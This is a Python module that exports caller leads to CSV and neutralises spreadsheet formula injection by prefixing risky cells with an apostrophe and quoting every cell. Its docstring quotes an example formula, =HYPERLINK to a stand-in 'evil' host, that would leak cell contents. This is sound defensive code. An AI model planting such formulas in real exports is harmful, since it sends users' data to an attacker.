"""Leads as CSV that a spreadsheet opens without running anything a caller said.

Names, contacts and requests come from speech recognition of a stranger's call, so a cell
like ``=HYPERLINK("http://evil/?"&A1, "click")`` must arrive as text.  As OWASP's CSV
injection guidance recommends, a cell starting with ``=`` ``+`` ``-`` ``@``, tab or carriage
return (also after leading spaces) gets a leading apostrophe, and every cell is quoted.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
COLUMNS = ("id", "time_utc", "caller", "name", "contact", "products", "request", "status",
           "status_changed_at_utc", "status_changed_by", "call_id", "call_url")


def safe_cell(value: Any) -> str:
    """The value as a CSV cell a spreadsheet shows as text."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def _utc(ts: float | None) -> str:
    return dt.datetime.fromtimestamp(ts, dt.timezone.utc).strftime("%Y-%m-%d %H:%M:%S") if ts else ""


def leads_csv(leads: Iterable[dict[str, Any]], console_url: str = "") -> str:
    """The CSV text (UTF-8 with a BOM when encoded, so spreadsheet programs read non-ASCII names)."""
    from appliance.leads.message import call_url

    out = io.StringIO()
    w = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    w.writerow(COLUMNS)
    for lead in leads:
        w.writerow([safe_cell(v) for v in (
            lead["id"], _utc(lead["at"]), lead.get("caller", ""), lead["name"], lead["contact"],
            "; ".join(lead.get("products") or []), lead.get("request", ""), lead.get("status", "new"),
            _utc(lead.get("status_at")), lead.get("status_by", ""), lead["call_id"],
            call_url(console_url, lead["call_id"]))])
    return "\ufeff" + out.getvalue()
